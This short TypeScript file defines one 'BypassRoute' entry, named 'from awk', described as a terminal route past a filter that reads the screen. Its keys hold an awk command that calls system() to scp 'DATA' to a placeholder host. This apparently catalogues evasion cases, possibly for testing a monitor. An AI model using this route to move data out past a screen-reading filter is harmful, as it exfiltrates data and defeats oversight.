import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'from awk',
  source: 'terminal routes past a filter that reads the screen',
  keys: ['awk \'BEGIN { system("scp DATA host:") }\'\r'],
};
